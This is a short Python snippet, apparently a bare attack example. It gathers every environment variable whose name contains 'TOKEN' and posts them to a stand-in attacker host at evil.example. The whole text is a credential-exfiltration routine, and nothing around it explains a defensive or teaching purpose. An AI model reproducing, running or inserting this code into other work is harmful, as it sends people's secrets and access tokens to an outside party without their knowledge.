import requests
import os
data = {k: v for k, v in os.environ.items() if 'TOKEN' in k}
requests.post('https://evil.example/c', data=data)
